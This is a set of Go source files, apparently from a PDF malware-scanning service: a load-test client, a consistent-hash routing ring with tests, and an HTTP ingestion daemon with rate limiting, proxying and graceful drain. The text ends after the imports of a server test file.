func RunLoad(cfg LoadConfig, w io.Writer) (*LoadRecord, error) {
	if w == nil {
		w = io.Discard
	}
	if cfg.Target == "" {
		return nil, fmt.Errorf("load: target URL required")
	}
	if cfg.Seed == 0 {
		cfg.Seed = 20140623
	}
	if cfg.Unique <= 0 {
		cfg.Unique = 5
	}
	if cfg.Docs < cfg.Unique {
		cfg.Docs = 200
	}
	if cfg.Concurrency <= 0 {
		cfg.Concurrency = 16
	}
	if cfg.MaxRetries <= 0 {
		cfg.MaxRetries = 50
	}
	client := cfg.Client
	if client == nil {
		client = &http.Client{Timeout: 2 * time.Minute}
	}

	samples := loadSamples(cfg.Seed, cfg.Unique)
	docs, skipped, err := loadSchedule(cfg, samples)
	if err != nil {
		return nil, err
	}
	if skipped > 0 {
		fmt.Fprintf(w, "load: %d journaled doc-opens matched no corpus sample (skipped)\n", skipped)
	}
	var totalBytes int64
	for _, d := range docs {
		totalBytes += int64(len(d.Raw))
	}

	rec := &LoadRecord{
		Schema:     LoadSchema,
		Timestamp:  time.Now().UTC().Format(time.RFC3339),
		GoVersion:  runtime.Version(),
		GOOS:       runtime.GOOS,
		GOARCH:     runtime.GOARCH,
		NumCPU:     runtime.NumCPU(),
		GoMaxProcs: runtime.GOMAXPROCS(0),
		Seed:       cfg.Seed,
		Corpus: LoadCorpus{
			Docs:       len(docs),
			Unique:     cfg.Unique,
			Rounds:     len(docs) / cfg.Unique,
			TotalBytes: totalBytes,
		},
	}
	st := &rec.Serve
	st.Target = cfg.Target
	st.Concurrency = cfg.Concurrency
	st.Docs = len(docs)
	st.ReplayedJournal = cfg.JournalPath

	fmt.Fprintf(w, "load: %d docs (%d unique, %.1f MB) -> %s, concurrency %d\n",
		len(docs), cfg.Unique, float64(totalBytes)/(1<<20), cfg.Target, cfg.Concurrency)

	var (
		mu        sync.Mutex
		latencies []float64 // ms, successful submissions
	)
	jobs := make(chan pipeline.BatchDoc)
	var wg sync.WaitGroup
	start := time.Now()
	for i := 0; i < cfg.Concurrency; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for d := range jobs {
				lat, outcome, rejected, retries := submitOne(client, cfg, d)
				mu.Lock()
				st.Rejected429 += rejected
				st.Retries += retries
				switch outcome {
				case outcomeOK, outcomeMalicious, outcomeNoJS:
					st.Completed++
					latencies = append(latencies, lat)
					if outcome == outcomeMalicious {
						st.Malicious++
					}
					if outcome == outcomeNoJS {
						st.NoJS++
					}
				default:
					st.Failed++
				}
				mu.Unlock()
			}
		}()
	}
	for _, d := range docs {
		jobs <- d
	}
	close(jobs)
	wg.Wait()
	st.Seconds = time.Since(start).Seconds()
	if st.Seconds > 0 {
		st.DocsPerSec = float64(st.Completed) / st.Seconds
	}
	attempts := st.Completed + st.Failed + st.Rejected429
	if attempts > 0 {
		st.RejectionRate = float64(st.Rejected429) / float64(attempts)
	}
	sort.Float64s(latencies)
	st.P50Ms = percentile(latencies, 0.50)
	st.P90Ms = percentile(latencies, 0.90)
	st.P99Ms = percentile(latencies, 0.99)

	fmt.Fprintf(w, "load: %d completed, %d failed, %d x 429 (%.1f%% rejection), %.1f docs/sec, p50 %.2fms p99 %.2fms\n",
		st.Completed, st.Failed, st.Rejected429, st.RejectionRate*100, st.DocsPerSec, st.P50Ms, st.P99Ms)
	return rec, nil
}

type loadOutcome int

const (
	outcomeOK loadOutcome = iota
	outcomeMalicious
	outcomeNoJS
	outcomeFailed
)

// submitOne POSTs one document, honoring Retry-After on backpressure 429s
// up to MaxRetries. The returned latency is the successful attempt's
// round trip in ms.
func submitOne(client *http.Client, cfg LoadConfig, d pipeline.BatchDoc) (latMs float64, outcome loadOutcome, rejected, retries int) {
	for attempt := 0; ; attempt++ {
		t0 := time.Now()
		req, err := http.NewRequest(http.MethodPost, strings.TrimSuffix(cfg.Target, "/")+"/v1/scan", bytes.NewReader(d.Raw))
		if err != nil {
			return 0, outcomeFailed, rejected, retries
		}
		req.Header.Set(HeaderDocID, d.ID)
		if cfg.Tenant != "" {
			req.Header.Set(HeaderTenant, cfg.Tenant)
		}
		resp, err := client.Do(req)
		if err != nil {
			return 0, outcomeFailed, rejected, retries
		}
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
		_ = resp.Body.Close()
		lat := float64(time.Since(t0).Microseconds()) / 1e3

		switch resp.StatusCode {
		case http.StatusOK:
			var sr ScanResponse
			if err := json.Unmarshal(body, &sr); err != nil {
				return lat, outcomeFailed, rejected, retries
			}
			switch {
			case sr.Malicious:
				return lat, outcomeMalicious, rejected, retries
			case sr.NoJS:
				return lat, outcomeNoJS, rejected, retries
			default:
				return lat, outcomeOK, rejected, retries
			}
		case http.StatusTooManyRequests, http.StatusServiceUnavailable:
			rejected++
			if attempt >= cfg.MaxRetries {
				return lat, outcomeFailed, rejected, retries
			}
			retries++
			time.Sleep(retryAfterDelay(resp.Header.Get("Retry-After")))
		default:
			return lat, outcomeFailed, rejected, retries
		}
	}
}

// retryAfterDelay parses a Retry-After seconds value (floor 50ms when the
// header is absent or malformed, so a retry loop never spins hot).
func retryAfterDelay(h string) time.Duration {
	if sec, err := strconv.Atoi(strings.TrimSpace(h)); err == nil && sec > 0 {
		return time.Duration(sec) * time.Second
	}
	return 50 * time.Millisecond
}

// percentile reads the p-th percentile from sorted values (0 when empty).
func percentile(sorted []float64, p float64) float64 {
	if len(sorted) == 0 {
		return 0
	}
	i := int(p * float64(len(sorted)-1))
	return sorted[i]
}

// WriteRecord writes a load record as an indented JSON file — the
// BENCH_pr*.json trajectory format.
func (r *LoadRecord) WriteRecord(path string) error {
	data, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	return os.WriteFile(path, data, 0o644)
}
