package serve

import (
	"hash/fnv"
	"sort"
)

// defaultVnodes is how many virtual points each peer contributes to the
// ring. 128 keeps the ownership split within a few percent of even for
// small clusters without making lookup tables large.
const defaultVnodes = 128

// Ring maps content hashes to their owner peer with consistent hashing:
// each peer contributes vnode points on a 64-bit circle, and a document
// hash is owned by the first point clockwise from it. Adding or removing
// one peer only remaps the keys adjacent to its points (~1/N of the
// space), so a rolling restart does not flush every front-end cache in
// the fleet — the whole reason a multi-backend deployment shards its
// cache by content instead of duplicating it.
type Ring struct {
	points []ringPoint
	peers  []string
}

type ringPoint struct {
	hash  uint64
	owner string
}

// NewRing builds a ring over the peer list (vnodes <= 0 takes the
// default). Peer order does not matter; the ring is deterministic in the
// peer strings, so every node that agrees on the peer set agrees on every
// key's owner.
func NewRing(peers []string, vnodes int) *Ring {
	if vnodes <= 0 {
		vnodes = defaultVnodes
	}
	r := &Ring{peers: append([]string(nil), peers...)}
	for _, p := range peers {
		base := hash64(p)
		for i := 0; i < vnodes; i++ {
			// Finalizer-mixed points: raw fnv over "peer#i" leaves the
			// sequential vnode suffix in correlated low bits and the arc
			// lengths badly skewed; splitmix64's avalanche spreads each
			// peer's points evenly around the circle.
			r.points = append(r.points, ringPoint{
				hash:  mix64(base + uint64(i+1)*0x9e3779b97f4a7c15),
				owner: p,
			})
		}
	}
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].hash != r.points[j].hash {
			return r.points[i].hash < r.points[j].hash
		}
		// Tie-break on owner so identical fnv points order deterministically
		// regardless of input peer order.
		return r.points[i].owner < r.points[j].owner
	})
	return r
}

// Peers returns the ring's peer list.
func (r *Ring) Peers() []string { return r.peers }

// Owner returns the peer owning key (a content-hash hex digest). An empty
// ring owns nothing and returns "".
func (r *Ring) Owner(key string) string {
	if r == nil || len(r.points) == 0 {
		return ""
	}
	h := mix64(hash64(key))
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	if i == len(r.points) {
		i = 0 // wrap: first point clockwise from the top of the circle
	}
	return r.points[i].owner
}

func hash64(s string) uint64 {
	h := fnv.New64a()
	_, _ = h.Write([]byte(s))
	return h.Sum64()
}

// mix64 is the splitmix64 finalizer: a full-avalanche bijection that
// decorrelates fnv outputs over near-identical inputs.
func mix64(x uint64) uint64 {
	x ^= x >> 30
	x *= 0xbf58476d1ce4e5b9
	x ^= x >> 27
	x *= 0x94d049bb133111eb
	x ^= x >> 31
	return x
}
