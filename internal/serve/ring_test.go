package serve

import (
	"fmt"
	"testing"
)

// TestRingDeterministicAcrossPeerOrder: every node that agrees on the
// peer *set* must agree on every key's owner, regardless of the order the
// peers were listed in — otherwise two nodes would route the same
// document to different owners and the cache sharding falls apart.
func TestRingDeterministicAcrossPeerOrder(t *testing.T) {
	a := NewRing([]string{"n1:1", "n2:2", "n3:3"}, 0)
	b := NewRing([]string{"n3:3", "n1:1", "n2:2"}, 0)
	for i := 0; i < 500; i++ {
		key := fmt.Sprintf("hash-%d", i)
		if got, want := b.Owner(key), a.Owner(key); got != want {
			t.Fatalf("key %q: owner %q with shuffled peers, %q with original", key, got, want)
		}
	}
}

// TestRingBalance: with 128 vnodes per peer the ownership split over a
// large key population should be within a loose band of even.
func TestRingBalance(t *testing.T) {
	peers := []string{"n1:1", "n2:2", "n3:3", "n4:4"}
	r := NewRing(peers, 0)
	counts := make(map[string]int)
	const keys = 8000
	for i := 0; i < keys; i++ {
		counts[r.Owner(fmt.Sprintf("hash-%d", i))]++
	}
	want := keys / len(peers)
	for _, p := range peers {
		if c := counts[p]; c < want/2 || c > want*2 {
			t.Errorf("peer %s owns %d of %d keys (even share %d): split too skewed", p, c, keys, want)
		}
	}
}

// TestRingStabilityUnderPeerRemoval: removing one peer must only remap
// the keys that peer owned; every key owned by a surviving peer keeps its
// owner. This is the property that keeps a rolling restart from flushing
// every front-end cache in the fleet.
func TestRingStabilityUnderPeerRemoval(t *testing.T) {
	full := NewRing([]string{"n1:1", "n2:2", "n3:3"}, 0)
	reduced := NewRing([]string{"n1:1", "n2:2"}, 0)
	moved := 0
	const keys = 2000
	for i := 0; i < keys; i++ {
		key := fmt.Sprintf("hash-%d", i)
		before := full.Owner(key)
		after := reduced.Owner(key)
		if before == "n3:3" {
			continue // orphaned keys must move somewhere
		}
		if before != after {
			moved++
		}
	}
	if moved != 0 {
		t.Errorf("%d keys owned by surviving peers changed owner after removing n3", moved)
	}
}

// TestRingEmptyAndSingle covers the degenerate rings.
func TestRingEmptyAndSingle(t *testing.T) {
	var nilRing *Ring
	if got := nilRing.Owner("x"); got != "" {
		t.Errorf("nil ring owner = %q, want empty", got)
	}
	if got := NewRing(nil, 0).Owner("x"); got != "" {
		t.Errorf("empty ring owner = %q, want empty", got)
	}
	one := NewRing([]string{"solo:1"}, 0)
	for i := 0; i < 50; i++ {
		if got := one.Owner(fmt.Sprintf("h%d", i)); got != "solo:1" {
			t.Fatalf("single-peer ring routed %q away from the only peer", got)
		}
	}
}
