// Package serve is the HTTP ingestion tier: a long-running daemon that
// accepts document submissions over HTTP/JSON and runs them through the
// full protection pipeline (instrument → monitored open → verdict).
//
// The design goal is not raw throughput — the batch engine already has
// that — but *admission control*: under sustained traffic the correctness
// concern is what happens at saturation. Every document passes three
// gates before it costs any pipeline work: a per-tenant token bucket
// (one hot tenant cannot starve the rest), consistent-hash ownership
// routing (a multi-backend deployment shards its front-end cache on
// instrument.ContentHash instead of duplicating it — non-owned documents
// are proxied to their owner), and a bounded admission queue whose
// overflow answers 429 with a Retry-After instead of queueing unbounded
// latency. Shutdown is a drain: the listener stops accepting, in-flight
// documents finish under a deadline, and the forensic journal is flushed
// before the process exits.
package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"expvar"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"pdfshield/internal/instrument"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
)

// Defaults applied by New when the corresponding Config field is zero.
const (
	DefaultQueueDepth   = 64
	DefaultMaxDocBytes  = 64 << 20 // 64 MB per submitted document
	DefaultDrainTimeout = 30 * time.Second
)

// queueRetryAfter is the backpressure hint returned with a queue-full 429:
// per-document latency is milliseconds, so a saturated queue of default
// depth drains well within a second.
const queueRetryAfter = time.Second

// HTTP headers of the ingestion protocol.
const (
	// HeaderTenant assigns the submission to a rate-limit tenant ("" is a
	// tenant of its own).
	HeaderTenant = "X-Tenant"
	// HeaderDocID names the document; generated from the content hash when
	// absent. The ID is the correlation key into journal events and traces.
	HeaderDocID = "X-Doc-Id"
	// HeaderRouted marks a proxied submission with the routing peer, so
	// ownership disagreement during a ring change cannot bounce a document
	// between peers forever — a routed submission is always served locally.
	HeaderRouted = "X-Pdfshield-Routed"
)

// Config tunes a Server.
type Config struct {
	// Pipeline configures the System the daemon scans with. Cache and
	// Journal wired here are the daemon's front-end cache and forensic
	// journal (the journal is flushed on drain).
	Pipeline pipeline.Options
	// Workers is the number of concurrent scan lanes, each owning one
	// recycled reader session (0 = runtime.NumCPU()).
	Workers int
	// QueueDepth bounds the admission queue; a full queue answers 429 +
	// Retry-After (0 = DefaultQueueDepth).
	QueueDepth int
	// MaxDocBytes bounds one submission's body (0 = DefaultMaxDocBytes).
	MaxDocBytes int64
	// DrainTimeout bounds how long Close waits for in-flight documents
	// after a shutdown signal (0 = DefaultDrainTimeout).
	DrainTimeout time.Duration
	// TenantRate grants each tenant this many documents/second
	// (0 = unlimited); TenantBurst is the bucket ceiling (0 = max(rate,1)).
	TenantRate  float64
	TenantBurst int
	// Peers is the full backend list ("host:port" or "http://host:port")
	// of a multi-backend deployment, and Self is this node's entry in it.
	// When set, documents are consistent-hash routed on their content hash:
	// non-owned submissions are proxied to the owner, so each peer's
	// front-end cache holds its shard of the content space instead of a
	// copy of all of it. Empty = single-node, everything owned locally.
	Peers []string
	Self  string
	// Pprof mounts the net/http/pprof profiling handlers at /debug/pprof.
	// Off by default: the profiles expose goroutine stacks and heap
	// contents, so they are opt-in (-pprof on the daemon CLI).
	Pprof bool
	// Timeouts harden the HTTP listener (zero fields =
	// obs.DefaultServerTimeouts).
	Timeouts obs.ServerTimeouts
	// Now overrides the limiter clock (tests); nil = time.Now.
	Now func() time.Time
}

// job is one admitted submission travelling from handler to scan worker.
type job struct {
	ctx context.Context
	doc pipeline.BatchDoc
	res chan jobResult // buffered(1): worker never blocks on a gone client
}

type jobResult struct {
	verdict *pipeline.Verdict
	err     error
}

// Server is a running ingestion daemon.
type Server struct {
	cfg     Config
	sys     *pipeline.System
	obs     *obs.Registry
	ring    *Ring
	limiter *TenantLimiter
	proxy   *http.Client
	mux     *http.ServeMux

	queue     chan *job
	stop      chan struct{}
	workerWG  sync.WaitGroup
	draining  atomic.Bool
	docSeq    atomic.Uint64
	closeOnce sync.Once
	closeErr  error

	httpSrv *http.Server
	ln      net.Listener

	// process runs one admitted document (test seam; defaults to the
	// pipeline worker's recycled-session path).
	process func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error)
}

// New builds the daemon: the pipeline System underneath, the scan worker
// pool, and the versioned HTTP routes (POST /v1/scan, GET /v1/healthz,
// GET /v1/metrics, /debug/vars). The pre-versioning paths (/scan,
// /healthz, /metrics) remain as deprecated aliases for one release,
// answered with a 308 redirect and a Deprecation header. Call Start to
// bind a listener, or mount Handler on a listener of your own; Close
// drains and releases everything.
func New(cfg Config) (*Server, error) {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.NumCPU()
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = DefaultQueueDepth
	}
	if cfg.MaxDocBytes <= 0 {
		cfg.MaxDocBytes = DefaultMaxDocBytes
	}
	if cfg.DrainTimeout <= 0 {
		cfg.DrainTimeout = DefaultDrainTimeout
	}
	if len(cfg.Peers) > 0 {
		if cfg.Self == "" {
			return nil, errors.New("serve: Peers set but Self empty")
		}
		found := false
		for _, p := range cfg.Peers {
			if p == cfg.Self {
				found = true
				break
			}
		}
		if !found {
			return nil, fmt.Errorf("serve: Self %q not in Peers", cfg.Self)
		}
	}
	sys, err := pipeline.NewSystem(cfg.Pipeline)
	if err != nil {
		return nil, err
	}
	reg := cfg.Pipeline.Obs
	if reg == nil {
		reg = obs.Default
	}
	s := &Server{
		cfg:     cfg,
		sys:     sys,
		obs:     reg,
		limiter: NewTenantLimiter(cfg.TenantRate, cfg.TenantBurst, cfg.Now),
		queue:   make(chan *job, cfg.QueueDepth),
		stop:    make(chan struct{}),
		proxy:   &http.Client{Timeout: 2 * time.Minute},
	}
	if len(cfg.Peers) > 1 {
		s.ring = NewRing(cfg.Peers, 0)
	}
	s.process = func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error) {
		return w.Process(ctx, doc)
	}

	reg.GaugeFunc(obs.MetricServeQueueDepth, func() float64 { return float64(len(s.queue)) })

	s.preregisterMetrics()

	s.mux = http.NewServeMux()
	s.mux.HandleFunc("POST /v1/scan", s.handleScan)
	s.mux.HandleFunc("GET /v1/healthz", s.handleHealthz)
	s.mux.Handle("GET /v1/metrics", reg.Handler())
	s.mux.Handle("/debug/vars", expvar.Handler())
	// Live debug surface: retained traces, slowest documents, SLO burn
	// rates, stall reports (see obs.Diagnostics.RegisterDebug).
	sys.Diagnostics().RegisterDebug(s.mux, "/v1/debug")
	if cfg.Pprof {
		obs.RegisterPprof(s.mux)
	}
	reg.RegisterRuntimeMetrics()
	obs.RegisterBuildInfo(reg)
	reg.PublishExpvar("pdfshield")
	// Deprecated: the unversioned ingestion paths are an alias for one
	// release. 308 preserves the method and body, so an old client's
	// POST /scan lands on /v1/scan with the document intact.
	s.mux.HandleFunc("POST /scan", redirectV1("/v1/scan"))
	s.mux.HandleFunc("GET /healthz", redirectV1("/v1/healthz"))
	s.mux.HandleFunc("GET /metrics", redirectV1("/v1/metrics"))

	for i := 0; i < cfg.Workers; i++ {
		s.workerWG.Add(1)
		go s.scanWorker()
	}
	return s, nil
}

// preregisterMetrics creates every serve-layer series at zero when the
// daemon is built, so scrapes and the metric-drift lint see the full
// vocabulary before the first request (the rejection reasons form a
// closed set; see reject call sites).
func (s *Server) preregisterMetrics() {
	s.obs.CounterAdd(obs.MetricServeAccepted, 0)
	s.obs.CounterAdd(obs.MetricServeProxied, 0)
	for _, reason := range []string{"queue", "ratelimit", "draining", "toolarge", "body", "empty", "proxy"} {
		s.obs.CounterAdd(obs.Series(obs.MetricServeRejected, "reason", reason), 0)
	}
	s.obs.GaugeAdd(obs.MetricServeInFlight, 0)
	s.obs.Histogram(obs.MetricServeSeconds, obs.LatencyBuckets)
}

// redirectV1 answers a pre-versioning path with a 308 to its /v1
// successor. 308 (not 301) because the scan endpoint is a POST: the
// permanent redirect preserves method and body, so old clients keep
// working through the alias window. The Deprecation header (plus a
// successor-version Link) is the machine-readable removal notice.
func redirectV1(target string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Deprecation", "true")
		w.Header().Set("Link", "<"+target+`>; rel="successor-version"`)
		http.Redirect(w, r, target, http.StatusPermanentRedirect)
	}
}

// Handler returns the daemon's HTTP routes (tests mount it on httptest).
func (s *Server) Handler() http.Handler { return s.mux }

// System exposes the pipeline underneath (stats, cache introspection).
func (s *Server) System() *pipeline.System { return s.sys }

// Start binds addr (":0" picks a port; see Addr) behind the hardened
// listener timeouts and serves until Close.
func (s *Server) Start(addr string) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("serve: listen: %w", err)
	}
	s.ln = ln
	s.httpSrv = obs.NewHTTPServer(s.mux, s.cfg.Timeouts)
	go func() { _ = s.httpSrv.Serve(ln) }()
	return nil
}

// Addr returns the bound listen address ("" before Start).
func (s *Server) Addr() string {
	if s.ln == nil {
		return ""
	}
	return s.ln.Addr().String()
}

// scanWorker is one lane of the pool: it owns a pipeline.Worker (one
// recycled reader session) and drains admitted jobs until the server
// stops. A job whose submitter has gone away (request context dead) is
// skipped before it costs pipeline work.
func (s *Server) scanWorker() {
	defer s.workerWG.Done()
	w := s.sys.NewWorker()
	defer w.Close()
	for {
		select {
		case <-s.stop:
			return
		case jb := <-s.queue:
			if err := jb.ctx.Err(); err != nil {
				jb.res <- jobResult{err: err}
				continue
			}
			s.obs.GaugeAdd(obs.MetricServeInFlight, 1)
			v, err := s.process(jb.ctx, w, jb.doc)
			s.obs.GaugeAdd(obs.MetricServeInFlight, -1)
			jb.res <- jobResult{verdict: v, err: err}
		}
	}
}

// ScanResponse is the verdict JSON answered to POST /scan. DocID and
// JournalSession are the correlation keys: journal events (doc-open,
// runtime events, verdict) carry the same DocID under the same session,
// and Trace is the submission's phase timeline.
type ScanResponse struct {
	DocID       string `json:"doc_id"`
	ContentHash string `json:"content_hash"`
	Malicious   bool   `json:"malicious"`
	NoJS        bool   `json:"no_javascript,omitempty"`
	Crashed     bool   `json:"crashed,omitempty"`
	Malscore    int    `json:"malscore,omitempty"`
	AlertReason string `json:"alert_reason,omitempty"`
	Features    []int  `json:"features,omitempty"`
	// Depth is the scan depth the verdict was produced at
	// (static/standard/deep/auto).
	Depth string `json:"depth,omitempty"`
	// TriageRoute is the static triage tier's routing decision
	// (benign/malicious/uncertain; "" when the daemon runs without
	// triage). Routed documents never opened a reader process.
	TriageRoute string `json:"triage_route,omitempty"`
	// DeepScanPaths counts the execution paths the forced-execution deep
	// lane explored for this document (0 when no deep scan ran).
	DeepScanPaths int `json:"deepscan_paths,omitempty"`
	// Cache annotates how the front-end was satisfied (hit/miss/shared;
	// "" when the daemon runs without a cache).
	Cache          string     `json:"cache,omitempty"`
	ElapsedMS      float64    `json:"elapsed_ms"`
	JournalSession string     `json:"journal_session,omitempty"`
	Trace          *obs.Trace `json:"trace,omitempty"`
	// Node is the peer that actually scanned the document (set on
	// responses served via ownership proxying).
	Node  string `json:"node,omitempty"`
	Error string `json:"error,omitempty"`
}

// errorResponse is the JSON body of every non-200 answer.
type errorResponse struct {
	Error string `json:"error"`
	// RetryAfterSec mirrors the Retry-After header for JSON-only clients.
	RetryAfterSec int `json:"retry_after_sec,omitempty"`
}

func (s *Server) reject(w http.ResponseWriter, status int, reason string, retryAfter time.Duration, msg string) {
	s.obs.Inc(obs.Series(obs.MetricServeRejected, "reason", reason))
	w.Header().Set("Content-Type", "application/json")
	var retrySec int
	if retryAfter > 0 {
		// Retry-After is whole seconds, rounded up: hinting 0 would invite
		// an immediate retry storm against a still-saturated queue.
		retrySec = int((retryAfter + time.Second - 1) / time.Second)
		w.Header().Set("Retry-After", strconv.Itoa(retrySec))
	}
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(errorResponse{Error: msg, RetryAfterSec: retrySec})
}

func (s *Server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	status := "ok"
	code := http.StatusOK
	if s.draining.Load() {
		// Draining answers 503 so load balancers stop routing here while
		// the in-flight documents finish.
		status = "draining"
		code = http.StatusServiceUnavailable
	}
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(map[string]any{
		"status":      status,
		"queue_depth": len(s.queue),
		"queue_cap":   cap(s.queue),
		"workers":     s.cfg.Workers,
	})
}

func (s *Server) handleScan(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	if s.draining.Load() {
		s.reject(w, http.StatusServiceUnavailable, "draining", queueRetryAfter, "draining: not accepting new documents")
		return
	}
	tenant := r.Header.Get(HeaderTenant)
	if ok, retry := s.limiter.Allow(tenant); !ok {
		s.reject(w, http.StatusTooManyRequests, "ratelimit", retry, fmt.Sprintf("tenant %q over rate limit", tenant))
		return
	}
	raw, err := io.ReadAll(http.MaxBytesReader(w, r.Body, s.cfg.MaxDocBytes))
	if err != nil {
		var tooLarge *http.MaxBytesError
		if errors.As(err, &tooLarge) {
			s.reject(w, http.StatusRequestEntityTooLarge, "toolarge", 0,
				fmt.Sprintf("document exceeds %d bytes", s.cfg.MaxDocBytes))
			return
		}
		s.reject(w, http.StatusBadRequest, "body", 0, fmt.Sprintf("reading body: %v", err))
		return
	}
	if len(raw) == 0 {
		s.reject(w, http.StatusBadRequest, "empty", 0, "empty body: POST the PDF bytes")
		return
	}

	hash := instrument.ContentHash(raw)
	docID := r.Header.Get(HeaderDocID)
	if docID == "" {
		docID = fmt.Sprintf("serve-%d-%s", s.docSeq.Add(1), hash[:12])
	}

	// Ownership routing: a document whose content hash lands on another
	// peer's arc is proxied there, so the fleet's front-end caches shard
	// the content space. Already-routed submissions are always served
	// locally (ring-view disagreement must not bounce documents around).
	if s.ring != nil && r.Header.Get(HeaderRouted) == "" {
		if owner := s.ring.Owner(hash); owner != "" && owner != s.cfg.Self {
			s.proxyScan(w, r, owner, raw, tenant, docID)
			return
		}
	}

	jb := &job{
		ctx: r.Context(),
		doc: pipeline.BatchDoc{ID: docID, Raw: raw},
		res: make(chan jobResult, 1),
	}
	select {
	case s.queue <- jb:
		s.obs.Inc(obs.MetricServeAccepted)
	default:
		s.reject(w, http.StatusTooManyRequests, "queue", queueRetryAfter, "admission queue full")
		return
	}

	select {
	case res := <-jb.res:
		s.writeVerdict(w, docID, hash, res, start)
	case <-r.Context().Done():
		// Client gone; the worker will skip (or finish) the job and find
		// nobody waiting — res is buffered so it never blocks.
		return
	}
}

func (s *Server) writeVerdict(w http.ResponseWriter, docID, hash string, res jobResult, start time.Time) {
	s.obs.Observe(obs.MetricServeSeconds, time.Since(start))
	resp := ScanResponse{
		DocID:          docID,
		ContentHash:    hash,
		ElapsedMS:      float64(time.Since(start).Microseconds()) / 1e3,
		JournalSession: s.cfg.Pipeline.Journal.Session(),
	}
	if res.err != nil {
		// A per-document analysis failure (hostile parse, contained panic)
		// is a terminal outcome for that document, not a server fault.
		resp.Error = res.err.Error()
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnprocessableEntity)
		_ = json.NewEncoder(w).Encode(resp)
		return
	}
	v := res.verdict
	resp.Malicious = v.Malicious
	resp.NoJS = v.NoJavaScript
	resp.Crashed = v.Crashed
	resp.Depth = v.Depth
	resp.TriageRoute = v.TriageRoute
	if v.Open != nil {
		resp.DeepScanPaths = v.Open.DeepPaths
	}
	if v.Alert != nil {
		resp.Malscore = v.Alert.Malscore
		resp.AlertReason = v.Alert.Reason
	}
	if !v.NoJavaScript {
		resp.Features = make([]int, len(v.FeatureVector))
		for i, f := range v.FeatureVector {
			resp.Features[i] = f
		}
	}
	if v.Trace != nil {
		resp.Cache = v.Trace.Cache
		resp.Trace = v.Trace
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(resp)
}

// proxyScan forwards a submission to its consistent-hash owner and relays
// the response verbatim (status, Retry-After, verdict body). The Node
// field of a relayed verdict is stamped with the owner so the submitter
// can see where the document actually ran.
func (s *Server) proxyScan(w http.ResponseWriter, r *http.Request, owner string, raw []byte, tenant, docID string) {
	s.obs.Inc(obs.MetricServeProxied)
	req, err := http.NewRequestWithContext(r.Context(), http.MethodPost, peerURL(owner)+"/v1/scan", bytes.NewReader(raw))
	if err != nil {
		s.reject(w, http.StatusBadGateway, "proxy", 0, fmt.Sprintf("routing to %s: %v", owner, err))
		return
	}
	req.Header.Set(HeaderRouted, s.cfg.Self)
	req.Header.Set(HeaderTenant, tenant)
	req.Header.Set(HeaderDocID, docID)
	resp, err := s.proxy.Do(req)
	if err != nil {
		s.reject(w, http.StatusBadGateway, "proxy", queueRetryAfter, fmt.Sprintf("owner %s unreachable: %v", owner, err))
		return
	}
	defer func() { _ = resp.Body.Close() }()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	if err != nil {
		s.reject(w, http.StatusBadGateway, "proxy", 0, fmt.Sprintf("owner %s response: %v", owner, err))
		return
	}
	if resp.StatusCode == http.StatusOK {
		// Stamp the serving node into the verdict for route visibility.
		var sr ScanResponse
		if json.Unmarshal(body, &sr) == nil {
			sr.Node = owner
			if rebody, err := json.Marshal(sr); err == nil {
				body = rebody
			}
		}
	}
	if ra := resp.Header.Get("Retry-After"); ra != "" {
		w.Header().Set("Retry-After", ra)
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(resp.StatusCode)
	_, _ = w.Write(body)
}

// peerURL normalizes a peer entry to a base URL.
func peerURL(peer string) string {
	if strings.Contains(peer, "://") {
		return strings.TrimSuffix(peer, "/")
	}
	return "http://" + peer
}

// Close drains and shuts the daemon down: the listener stops accepting
// (new submissions are rejected as draining), in-flight documents finish
// under DrainTimeout, workers release their reader sessions, the journal
// is flushed, and the pipeline System closes. In-flight documents that
// outrun the deadline still finish their pipeline pass (verdicts and
// journal records are never dropped mid-document); only their HTTP
// responses are abandoned.
func (s *Server) Close() error {
	ctx, cancel := context.WithTimeout(context.Background(), s.cfg.DrainTimeout)
	defer cancel()
	return s.Shutdown(ctx)
}

// Shutdown is Close with a caller-owned drain deadline. Repeated calls
// return the first drain's result.
func (s *Server) Shutdown(ctx context.Context) error {
	s.closeOnce.Do(func() {
		s.draining.Store(true)
		var drainErr error
		if s.httpSrv != nil {
			// Shutdown closes the listener at once and returns when every
			// active request's handler has finished — i.e. when the last
			// in-flight document has its verdict written.
			drainErr = s.httpSrv.Shutdown(ctx)
			if drainErr != nil {
				_ = s.httpSrv.Close()
			}
		}
		// Handlers are done (or abandoned); stop the lanes. A worker mid-
		// document finishes it before exiting, so wg.Wait is the "zero
		// dropped in-flight documents" guarantee.
		close(s.stop)
		s.workerWG.Wait()
		if err := s.cfg.Pipeline.Journal.Flush(); err != nil && drainErr == nil {
			drainErr = err
		}
		if err := s.sys.Close(); err != nil && drainErr == nil {
			drainErr = err
		}
		s.closeErr = drainErr
	})
	return s.closeErr
}
