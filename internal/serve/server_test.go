package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"testing"
